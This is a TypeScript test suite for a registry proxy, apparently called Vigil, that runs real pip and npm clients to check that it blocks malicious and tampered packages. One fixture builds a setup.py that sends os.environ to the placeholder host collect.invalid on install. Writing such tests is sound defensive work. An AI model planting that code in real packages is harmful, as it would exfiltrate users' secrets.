/**
 * Real package managers against the proxy (python3 -m pip, npm), with a loopback upstream serving
 * fixtures. Skipped when the client is not installed.
 */
import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { makeNpmTgz, makeSdist, makeWheel } from '../helpers/archives.js';
import { ScanCache } from '../../src/guard/scanner.js';
import { evilByName, startGuardedRegistry } from './guarded-registry.js';
import type { GuardedRegistry } from './guarded-registry.js';

const goodWheel = makeWheel('goodpkg', '1.0', { 'goodpkg/__init__.py': 'VALUE = 1\n' });
const good11 = makeWheel('goodpkg', '1.1', { 'goodpkg/__init__.py': 'VALUE = 2\n' });
const evilSdist = makeSdist('evilpkg', '1.0', {
  'setup.py': 'import os, urllib.request\nurllib.request.urlopen("http://collect.invalid/", data=repr(dict(os.environ)).encode())\n',
});
const tamperWheel = makeWheel('tamperpkg', '1.0', { 'tamperpkg/__init__.py': 'X = 1\n' });
const leftPad = makeNpmTgz({ name: 'left-pad', version: '1.0.0', main: 'index.js' }, { 'index.js': 'module.exports = 1;\n' });
const leftPad2 = makeNpmTgz({ name: 'left-pad', version: '2.0.0', main: 'index.js' }, { 'index.js': 'module.exports = 2;\n' });
const scoped = makeNpmTgz({ name: '@scope/thing', version: '1.0.0' }, { 'index.js': 'module.exports = 2;\n' });
const evilNpm = makeNpmTgz({ name: 'evil-npm', version: '1.0.0', scripts: { postinstall: 'node x.js' } }, { 'x.js': '/* inert */' });
const tamperNpm = makeNpmTgz({ name: 'tamper-npm', version: '1.0.0' }, { 'index.js': '1;' });

const fakeScanner = evilByName('setup.py sends os.environ to collect.invalid (setup.py:2, runs on install).');

const hasPip = spawnSync('python3', ['-m', 'pip', '--version']).status === 0;
const hasNpm = spawnSync('npm', ['--version'], { shell: false }).status === 0;

let guarded: GuardedRegistry;
let base = '';
let work = '';

function cleanEnv(): NodeJS.ProcessEnv {
  const env: NodeJS.ProcessEnv = {};
  for (const [k, v] of Object.entries(process.env)) {
    if (!/^(pip_|npm_config_|uv_)/i.test(k)) env[k] = v;
  }
  return { ...env, PIP_CONFIG_FILE: '/dev/null', PIP_NO_INPUT: '1', PIP_DISABLE_PIP_VERSION_CHECK: '1', npm_config_userconfig: join(work, 'npmrc'), npm_config_update_notifier: 'false' };
}

/** Runs a client without blocking the event loop (the proxy lives in this process). */
function run(command: string, args: string[], cwd: string): Promise<{ code: number | null; out: string }> {
  return new Promise((resolve) => {
    const child = spawn(command, args, { cwd, env: cleanEnv(), stdio: ['ignore', 'pipe', 'pipe'], timeout: 60_000 });
    let out = '';
    child.stdout.on('data', (d: Buffer) => (out += d.toString()));
    child.stderr.on('data', (d: Buffer) => (out += d.toString()));
    child.on('close', (code) => resolve({ code, out }));
  });
}

function pip(...args: string[]): Promise<{ code: number | null; out: string }> {
  return run('python3', ['-m', 'pip', ...args, '--no-cache-dir', '--retries', '0', '--timeout', '20', '--index-url', `${base}/pypi/simple/`], work);
}

function npm(cwd: string, ...args: string[]): Promise<{ code: number | null; out: string }> {
  return run('npm', [...args, '--registry', `${base}/npm/`, '--cache', join(work, 'npm-cache'), '--no-audit', '--no-fund', '--fetch-retries', '0'], cwd);
}

before(async () => {
  work = mkdtempSync(join(tmpdir(), 'vigil-clients-'));
  writeFileSync(join(work, 'npmrc'), '');
  guarded = await startGuardedRegistry(
    {
      pypi: [
        {
          name: 'goodpkg',
          files: [
            { version: '1.0', filename: 'goodpkg-1.0-py3-none-any.whl', bytes: goodWheel },
            { version: '1.1', filename: 'goodpkg-1.1-py3-none-any.whl', bytes: good11 },
          ],
        },
        { name: 'evilpkg', files: [{ version: '1.0', filename: 'evilpkg-1.0.tar.gz', bytes: evilSdist }] },
        { name: 'tamperpkg', files: [{ version: '1.0', filename: 'tamperpkg-1.0-py3-none-any.whl', bytes: tamperWheel, tampered: goodWheel }] },
      ],
      npm: [
        { name: 'left-pad', versions: [{ version: '1.0.0', tarball: leftPad }, { version: '2.0.0', tarball: leftPad2 }] },
        { name: '@scope/thing', versions: [{ version: '1.0.0', tarball: scoped }] },
        { name: 'evil-npm', versions: [{ version: '1.0.0', tarball: evilNpm }] },
        { name: 'tamper-npm', versions: [{ version: '1.0.0', tarball: tamperNpm, tampered: leftPad }] },
      ],
    },
    {
      cache: new ScanCache(fakeScanner),
      isKnownMalicious: (eco, name, version) => (eco === 'pypi' && name === 'goodpkg' && version === '1.1') || (eco === 'npm' && name === 'left-pad' && version === '2.0.0'),
    },
  );
  base = guarded.url;
});

after(async () => {
  await guarded.close();
  rmSync(work, { recursive: true, force: true });
});

// Clients are slow to start; run them side by side.
describe('real clients through the proxy', { concurrency: 4 }, () => {
  test('pip download: a benign wheel arrives byte-identical; the MAL version is skipped', { skip: !hasPip }, async () => {
    const dest = join(work, 'pip-good');
    const r = await pip('download', '--no-deps', 'goodpkg', '-d', dest);
    assert.equal(r.code, 0, r.out);
    assert.deepEqual(readdirSync(dest), ['goodpkg-1.0-py3-none-any.whl']);
    assert.deepEqual(new Uint8Array(readFileSync(join(dest, 'goodpkg-1.0-py3-none-any.whl'))), goodWheel);
  });

  test('pip download: a malicious sdist is refused and pip shows why', { skip: !hasPip }, async () => {
    const dest = join(work, 'pip-evil');
    const r = await pip('download', '--no-deps', 'evilpkg==1.0', '-d', dest);
    assert.notEqual(r.code, 0);
    assert.match(r.out, /403 Client Error: Blocked by Vigil: evilpkg-1\.0\.tar\.gz: malicious/);
    assert.match(r.out, /collect\.invalid/);
    if (process.env.VIGIL_SHOW_CLIENT_OUTPUT === '1') process.stderr.write(r.out);
  });

  test('pip download: a tampered upstream file is refused', { skip: !hasPip }, async () => {
    const r = await pip('download', '--no-deps', 'tamperpkg==1.0', '-d', join(work, 'pip-tamper'));
    assert.notEqual(r.code, 0);
    assert.match(r.out, /integrity check failed/);
  });

  test('npm pack: a benign tarball arrives byte-identical, the MAL version is not chosen', { skip: !hasNpm }, async () => {
    const dest = join(work, 'npm-pack');
    const r = await npm(work, 'pack', 'left-pad', '--pack-destination', work);
    assert.equal(r.code, 0, r.out);
    assert.deepEqual(new Uint8Array(readFileSync(join(work, 'left-pad-1.0.0.tgz'))), leftPad);
    void dest;
  });

  test('npm install: scoped package installs through the proxy', { skip: !hasNpm }, async () => {
    const dir = mkdtempSync(join(work, 'npm-install-'));
    writeFileSync(join(dir, 'package.json'), '{"name":"t","version":"1.0.0","private":true}');
    const r = await npm(dir, 'install', '@scope/thing@1.0.0', '--ignore-scripts');
    assert.equal(r.code, 0, r.out);
    assert.equal(readFileSync(join(dir, 'node_modules/@scope/thing/index.js'), 'utf8'), 'module.exports = 2;\n');
  });

  test('npm install: a malicious package is refused and npm prints the reason', { skip: !hasNpm }, async () => {
    const dir = mkdtempSync(join(work, 'npm-evil-'));
    writeFileSync(join(dir, 'package.json'), '{"name":"t","version":"1.0.0","private":true}');
    const r = await npm(dir, 'install', 'evil-npm@1.0.0', '--ignore-scripts');
    assert.notEqual(r.code, 0);
    assert.match(r.out, /403/);
    assert.match(r.out, /Blocked by Vigil: evil-npm@1\.0\.0: malicious/);
    if (process.env.VIGIL_SHOW_CLIENT_OUTPUT === '1') process.stderr.write(r.out);
  });
});
